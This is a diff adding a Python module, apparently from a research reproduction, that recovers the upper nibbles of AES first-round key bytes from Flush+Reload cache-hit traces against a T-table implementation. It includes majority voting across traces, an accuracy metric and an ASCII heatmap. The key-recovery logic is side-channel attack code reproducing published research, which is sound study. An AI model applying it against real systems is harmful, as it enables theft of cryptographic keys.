@@ -1,0 +1,129 @@
+"""AES first-round key recovery (§5.1).
+
+The attacker's raw material is, per victim run, a matrix of
+Flush+Reload hit vectors — one row per preemption sample, one column
+per monitored T-table line.  First-round theory (§5.1's equations): for
+table ``t`` the first four accesses, in time order, use the state bytes
+``TABLE_BYTE_POSITIONS[t]``, and the state is ``x = p ⊕ k``, so each
+observed line index ``ℓ`` yields a key-nibble guess
+``k_i >> 4 = ℓ ⊕ (p_i >> 4)``.
+
+Because of smears (imperfect resolution + speculation) one sample may
+light several lines at once; the extractor takes, per table, the first
+four observed accesses in time order (deduplicating the one-sample
+speculative preview), and residual ambiguity is resolved by voting
+across traces with randomized plaintexts — exactly the paper's
+"collect more traces" resolution.
+"""
+
+from __future__ import annotations
+
+from collections import Counter
+from typing import List, Optional, Sequence, Tuple
+
+from repro.victims.aes_ttable import TABLE_BYTE_POSITIONS
+
+#: One run's channel data: samples[i][t][line] = hit?  (t in 0..3,
+#: line in 0..15).  A flat 64-bool layout is accepted too.
+SampleMatrix = Sequence[Sequence[Sequence[bool]]]
+
+
+def _first_accesses(
+    samples: Sequence[Sequence[bool]], needed: int = 4
+) -> List[Tuple[int, int]]:
+    """First ``needed`` observed accesses (sample_index, line) for one
+    table, in time order.
+
+    Because the receiver flushes every line each round, a sample shows
+    exactly the lines accessed during that nap — samples are
+    independent, and a line repeating in *later* samples is a genuine
+    repeat access.  The one systematic artifact is the speculative
+    smear: the access retiring in sample s+1 often previews in sample
+    s, so a line carried over from the immediately preceding sample is
+    deduplicated.  Residual ambiguity (several lines lighting in one
+    sample) is ordered by line index and left to the cross-trace
+    majority vote.
+    """
+    events: List[Tuple[int, int]] = []
+    previous: set = set()
+    for sample_index, hits in enumerate(samples):
+        lit = {line for line, hit in enumerate(hits) if hit}
+        if not lit:
+            previous = set()
+            continue
+        fresh = sorted(lit - previous)
+        previous = lit
+        for line in fresh:
+            events.append((sample_index, line))
+            if len(events) >= needed:
+                return events
+    return events
+
+
+def recover_first_round_nibbles(
+    table_samples: SampleMatrix,
+) -> List[Optional[int]]:
+    """Per-byte upper-nibble guesses of the *state* x from one trace.
+
+    Returns 16 entries (None where the trace was too short to observe
+    the access).  ``table_samples[i][t]`` is the 16-line hit vector of
+    table ``t`` at sample ``i``.
+    """
+    guesses: List[Optional[int]] = [None] * 16
+    n_tables = len(table_samples[0]) if table_samples else 0
+    for table in range(n_tables):
+        per_table = [sample[table] for sample in table_samples]
+        events = _first_accesses(per_table, needed=4)
+        for position, (_, line) in enumerate(events):
+            byte_index = TABLE_BYTE_POSITIONS[table][position]
+            guesses[byte_index] = line
+    return guesses
+
+
+def recover_key_upper_nibbles(
+    traces: Sequence[SampleMatrix],
+    plaintexts: Sequence[bytes],
+) -> List[Optional[int]]:
+    """Majority-vote key-nibble recovery across several victim runs.
+
+    Each trace contributes ``x``-nibble guesses; XORing with its own
+    plaintext nibble turns them into *key* nibble votes, which are
+    majority-combined per byte (the paper's 5-trace protocol).
+    """
+    if len(traces) != len(plaintexts):
+        raise ValueError("need one plaintext per trace")
+    votes: List[Counter] = [Counter() for _ in range(16)]
+    for trace, plaintext in zip(traces, plaintexts):
+        state_nibbles = recover_first_round_nibbles(trace)
+        for byte_index, nibble in enumerate(state_nibbles):
+            if nibble is not None:
+                votes[byte_index][nibble ^ (plaintext[byte_index] >> 4)] += 1
+    result: List[Optional[int]] = []
+    for counter in votes:
+        result.append(counter.most_common(1)[0][0] if counter else None)
+    return result
+
+
+def nibble_accuracy(
+    recovered: Sequence[Optional[int]], key: bytes
+) -> float:
+    """Fraction of the 16 key bytes whose upper nibble was recovered."""
+    correct = sum(
+        1
+        for i, nibble in enumerate(recovered)
+        if nibble is not None and nibble == key[i] >> 4
+    )
+    return correct / 16.0
+
+
+def render_heatmap(
+    table_samples: SampleMatrix, table: int = 0, *, max_cols: int = 120
+) -> str:
+    """ASCII version of Fig 5.1: rows = 16 lines of one T-table,
+    columns = preemption samples ('#' = reload hit)."""
+    columns = [sample[table] for sample in table_samples][:max_cols]
+    rows = []
+    for line in range(16):
+        row = "".join("#" if hits[line] else "." for hits in columns)
+        rows.append(f"line {line:2d} | {row}")
+    return "\n".join(rows)
